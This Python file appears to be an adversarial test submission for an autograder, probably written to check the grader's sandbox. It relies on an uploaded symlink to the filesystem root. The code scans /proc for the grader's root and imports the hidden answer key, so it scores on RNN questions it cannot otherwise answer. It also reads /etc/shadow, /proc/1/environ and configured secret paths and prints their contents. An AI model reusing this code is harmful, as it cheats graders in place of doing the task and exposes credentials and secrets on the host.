"""Attack: a folder in the upload that is a symbolic link to the root of the file system.

``helpers`` is a link to ``../source/../../../../../../../../../..``: from
AUTOGRADER_ROOT/submission (or /autograder/submission) that is ``/``; in the repository,
where ``tests/adversarial/source`` does not exist, it dangles (so nothing that walks the
repository follows it into ``/``). The module looks for ``helpers`` beside itself and
in the original upload (the grader's --root/submission from /proc/PID/cmdline,
/autograder/submission); through it, it imports the grader's answer key as a namespace
package (``helpers.autograder.source.reference.answer_key``, or any
helpers/tmp/*/autograder/source/reference it finds) and answers with it (12), and
prints helpers/etc/shadow, helpers/proc/1/environ and every ``secret_paths`` entry read
through the link. Without the link every answer is wrong: the honest score is 0.
"""

import glob
import importlib
import importlib.util
import json
import os
import sys

import numpy as np

HERE = os.path.dirname(os.path.abspath(__file__))
try:
    with open(os.path.join(HERE, "agconfig.json")) as _stream:
        CONFIG = json.load(_stream)
except (OSError, ValueError):
    CONFIG = {}
LOG = []


def helpers_folders():
    places = [HERE, "/autograder/submission", os.path.join(os.environ.get("AUTOGRADER_ROOT", "/none"), "submission")]
    for entry in os.listdir("/proc"):
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as stream:
                args = [a.decode("utf-8", "replace") for a in stream.read().split(b"\0")]
        except OSError:
            continue
        places += [os.path.join(args[i + 1], "submission") for i, a in enumerate(args[:-1]) if a == "--root"]
    return [os.path.join(p, "helpers") for p in dict.fromkeys(places) if os.path.isdir(os.path.join(p, "helpers"))]


def import_through(helpers):
    parent = os.path.dirname(helpers)
    sys.path.insert(0, parent)
    try:
        return importlib.import_module("helpers.autograder.source.reference.answer_key")  # a namespace package
    except Exception as error:  # noqa: BLE001
        LOG.append(f"namespace import: {error!r}"[:200])
    finally:
        sys.path.remove(parent)
    pattern = os.path.join(helpers, "tmp", "*", "autograder", "source", "questions", "we_recur", "reference", "answer_key.py")
    for key in sorted(glob.glob(pattern)):
        folder = os.path.dirname(key)
        name = f"agthrough_{abs(hash(folder))}"
        try:
            spec = importlib.util.spec_from_file_location(name, os.path.join(folder, "__init__.py"),
                                                          submodule_search_locations=[folder])
            package = importlib.util.module_from_spec(spec)
            sys.modules[name] = package
            spec.loader.exec_module(package)
            return importlib.import_module(f"{name}.answer_key")
        except Exception as error:  # noqa: BLE001
            LOG.append(f"{key}: {error!r}"[:200])
    return None


def leak(helpers):
    for path in ["/etc/shadow", "/proc/1/environ", *(CONFIG.get("secret_paths") or [])]:
        try:
            with open(helpers + path, "rb") as stream:
                LOG.append(f"LEAK {path}: {stream.read(2000).decode('utf-8', 'replace')}")
        except OSError as error:
            LOG.append(f"{path}: {error.strerror}")


KEY = None
try:
    for _helpers in helpers_folders():
        leak(_helpers)
        KEY = import_through(_helpers)
        if KEY is not None:
            break
    else:
        LOG.append("no helpers link anywhere (the copy of the upload left it behind)")
except Exception as _error:  # noqa: BLE001
    LOG.append(repr(_error))
print("symlink_dir:", "; ".join(LOG)[:6000])


WRONG_A = {"W_ss": (1, 1), "W_sx": (1, 1), "W_o": (1, 1)}  # wrong shapes
WRONG_F = {"W_ox": False, "all_W_ox": False, "W_ssx": False, "all_W_ssx": True}  # all four wrong


def rnn_a_shapes(s_dim=2, x_dim=2, p_dim=2):
    return KEY.rnn_a_shapes(s_dim, x_dim, p_dim) if KEY is not None else dict(WRONG_A)


def rnn_a_dloss_dx(W_ss, W_sx, W_o, x_t, dloss_dz2):
    return KEY.rnn_a_dloss_dx(W_ss, W_sx, W_o, x_t, dloss_dz2) if KEY is not None else np.zeros_like(x_t)


def rnn_b_shapes(s_dim=2, x_dim=2, p_dim=2):
    return KEY.rnn_b_shapes(s_dim, x_dim, p_dim) if KEY is not None else {"W_ssx": (1, 1), "W_ox": (1, 1)}


def rnn_b_f2(z):
    return KEY.rnn_b_f2(z) if KEY is not None else z


def rnn_b_next_input(p_t):
    return KEY.rnn_b_next_input(p_t) if KEY is not None else np.zeros_like(p_t)


def rnn_b_dloss_dx_depends_on():
    return KEY.rnn_b_dloss_dx_depends_on() if KEY is not None else dict(WRONG_F)
